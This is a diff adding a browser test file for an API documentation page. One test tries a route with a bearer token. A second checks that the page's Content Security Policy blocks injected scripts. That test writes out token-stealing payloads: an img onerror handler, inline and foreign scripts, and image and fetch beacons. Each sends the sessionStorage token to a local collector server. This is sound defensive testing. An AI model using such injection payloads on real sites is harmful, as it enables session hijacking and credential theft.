@@ -1,0 +1,73 @@
+import { createServer } from 'node:http';
+import { once } from 'node:events';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { API_TOKEN } from '../support/api-client.js';
+import { openConsole, type OpenConsole } from './support/open-console.js';
+
+let sidetrack: OpenConsole;
+beforeAll(async () => {
+  sidetrack = await openConsole();
+});
+afterAll(() => sidetrack.close());
+
+describe('the page of the API documents', () => {
+  it('shows the routes and tries one, under a policy that lets nothing else run', async () => {
+    const { page, close } = await sidetrack.openBlank();
+    await page.goto(`${sidetrack.url}/docs`);
+    await page.getByRole('button', { name: 'Authorize' }).click();
+    await page.getByLabel('auth-bearer-value').fill(API_TOKEN);
+    await page.getByLabel('Apply credentials').click();
+    await page.getByRole('button', { name: 'Close', exact: true }).click();
+    const route = page.locator('.opblock', { has: page.locator('[data-path="/v1/callback-urls"]') });
+    await route.locator('.opblock-summary-control').click();
+    await route.getByRole('button', { name: 'Try it out' }).click();
+    await route.getByRole('button', { name: 'Execute' }).click();
+
+    const answer = route.locator('.live-responses-table .response').first();
+    await answer.waitFor();
+    expect(await answer.locator('.response-col_status').first().textContent()).toContain('200');
+    await close();
+  });
+
+  it('runs no script that got into it in the tab of a signed-in console, and lets nothing be sent elsewhere', async () => {
+    const asked: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      asked.push(request.url ?? '');
+      response.setHeader('access-control-allow-origin', '*').end();
+    }).listen(0, '127.0.0.1');
+    await once(elsewhere, 'listening');
+    const collector = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+    const { page, close, expectError } = await sidetrack.open('/live');
+    await page.getByRole('heading', { level: 1, name: 'Live' }).waitFor();
+    await page.goto(`${sidetrack.url}/docs`);
+    await page.getByRole('heading', { name: /Sidetrack/ }).waitFor();
+    expectError(/Content Security Policy|Failed to load|violates|Refused/);
+
+    const refused = page.evaluate((to) => {
+      const violations = new Set<string>();
+      const refusals = new Promise<string[]>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          violations.add(effectiveDirective);
+          if (violations.size === 4) resolve([...violations].toSorted());
+        });
+      });
+      const stolen = 'sessionStorage.getItem("sidetrack-token")';
+      document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror='fetch("${to}?" + ${stolen})'>`);
+      const inline = document.createElement('script');
+      inline.textContent = `fetch("${to}?" + ${stolen})`;
+      const foreign = document.createElement('script');
+      foreign.src = `${to}/script.js`;
+      document.body.append(inline, foreign);
+      const picture = new Image();
+      picture.src = `${to}/picture?${sessionStorage.getItem('sidetrack-token')}`;
+      void fetch(`${to}/fetch?${sessionStorage.getItem('sidetrack-token')}`).catch(() => undefined);
+      return refusals;
+    }, collector);
+
+    expect(await refused).toEqual(['connect-src', 'img-src', 'script-src-attr', 'script-src-elem']);
+    expect(asked).toEqual([]);
+    await close();
+    elsewhere.close();
+  });
+});
